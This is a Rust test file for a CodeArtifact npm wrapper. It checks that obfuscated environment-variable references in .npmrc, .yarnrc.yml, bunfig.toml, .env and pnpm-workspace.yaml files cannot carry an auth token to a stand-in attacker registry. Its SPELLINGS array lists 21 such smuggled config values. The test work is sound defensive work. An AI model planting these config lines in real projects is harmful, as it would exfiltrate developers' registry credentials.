//! A variable that a project's line names for our registry, and that another line of the project would carry to the
//! attacker's: written so that only the client's own parser finds it there.

use std::fs;

use codeartifact_end_to_end::fixture::{NPM, two_hops};
use codeartifact_end_to_end::{Outcome, Sandbox};

const SHOW: &str = "import os; print(os.environ.get('MY_TOKEN'))";

/// A project that gets its variable, but for what is written beside it.
fn write(sandbox: &Sandbox, file: &str, text: &str) {
    let ours = NPM.trim_start_matches("https:");
    let npmrc = format!("@a:registry={NPM}\n{ours}:_authToken=${{MY_TOKEN}}\n");
    let text = text.replace("HERE", ours).replace("OURS", NPM);
    let text = text.replace("EVIL", "http://127.0.0.1:9/");
    if file == ".npmrc" {
        sandbox.write("work/.npmrc", &(npmrc + &text));
    } else {
        sandbox.write("work/.npmrc", &npmrc);
        sandbox.write(&format!("work/{file}"), &text);
    }
}

fn shown(sandbox: &Sandbox) -> Outcome {
    let words = ["exec", "--no-file", "--", "python3", "-c", SHOW];
    sandbox.run("codeartifact-npm", &words)
}

#[test]
fn no_spelling_of_a_variable_carries_a_token_away() {
    let (sandbox, _emulator) = two_hops();
    write(&sandbox, ".npmrc", "");
    let control = shown(&sandbox).succeeded();
    assert!(control.stdout.starts_with("eyJ"), "{control:?}");
    let mut carried = Vec::new();
    for (file, text) in SPELLINGS {
        write(&sandbox, file, text);
        let outcome = shown(&sandbox);
        if outcome.stdout.contains("eyJ") {
            carried.push(format!("{file}: {text}"));
        }
        fs::remove_file(sandbox.path(&format!("work/{file}"))).unwrap();
    }
    assert!(carried.is_empty(), "{}", carried.join("\n"));
}

const SPELLINGS: [(&str, &str); 21] = [
    (".npmrc", "user-agent=\"\\u0024{MY_TOKEN}\"\n"),
    (".npmrc", "user-agent=\"${MY\\u005fTOKEN}\"\n"),
    (".npmrc", "user-agent=\"\\u0024\\u007bMY_TOKEN}\"\n"),
    (
        ".npmrc",
        "\"//127.0.0.1:9/:_authToken\"=\"\\u0024{MY_TOKEN}\"\n",
    ),
    (".npmrc", "https-proxy=http://\\${MY_TOKEN}@127.0.0.1:9/\n"),
    (
        ".yarnrc.yml",
        "npmRegistryServer: EVIL\nnpmAuthToken: \"\\x24{MY_TOKEN}\"\n",
    ),
    (
        ".yarnrc.yml",
        "npmRegistryServer: EVIL\nnpmAuthToken: \"${MY_\\u0054OKEN}\"\n",
    ),
    (
        ".yarnrc.yml",
        "npmRegistryServer: EVIL\nnpmAuthToken: \"${MY_\\\n  TOKEN}\"\n",
    ),
    (
        ".yarnrc.yml",
        "npmRegistryServer: EVIL\nnpmAuthToken: \"$\\\n  {MY_TOKEN}\"\n",
    ),
    (
        ".yarnrc.yml",
        "npmRegistries:\n  \"HERE\":\n    npmAuthToken: &t \"${MY_TOKEN}\"\n  \"//127.0.0.1:9/\":\n    npmAuthToken: *t\n",
    ),
    (
        ".yarnrc.yml",
        "npmScopes:\n  a: &a\n    npmRegistryServer: \"OURS\"\n    npmAuthToken: \"${MY_TOKEN}\"\n  b:\n    <<: *a\n    npmRegistryServer: EVIL\n",
    ),
    (
        ".yarnrc.yml",
        "npmScopes:\n  a:\n    npmRegistryServer: \"OURS\"\n    npmAuthToken: \"${MY_TOKEN}\"\n    npmRegistryServer: \"EVIL\"\n",
    ),
    (
        ".yarnrc.yml",
        "npmScopes: {a: {npmRegistryServer: \"OURS\", npmAuthToken: \"${MY_TOKEN}\", npmRegistryServer: \"EVIL\"}}\n",
    ),
    (
        ".yarnrc.yml",
        "npmScopes:\n  a:\n    \"npmRegistryServer\": \"EVIL\"\n    \"npm\\x41uthToken\": \"${MY_TOKEN}\"\n",
    ),
    (
        "bunfig.toml",
        "[install]\nregistry = { url = \"EVIL\", token = \"\\u0024MY_TOKEN\" }\n",
    ),
    (
        "bunfig.toml",
        "[install]\nregistry = { url = \"EVIL\", token = \"$MY\\u005FTOKEN\" }\n",
    ),
    (
        "bunfig.toml",
        "[install]\nregistry = { url = \"EVIL\", token = \"\"\"$\\\n  MY_TOKEN\"\"\" }\n",
    ),
    (
        "bunfig.toml",
        "[install.scopes]\na = { url = \"EVIL\", token = \"\\U00000024{MY_TOKEN}\" }\n",
    ),
    (".env", "OTHER=\"${MY_TOKEN}\"\n"),
    (".env.local", "OTHER=$MY_TOKEN\n"),
    (
        "pnpm-workspace.yaml",
        "registries:\n  default: \"http://127.0.0.1:9/\\x24{MY_TOKEN}/\"\n",
    ),
];
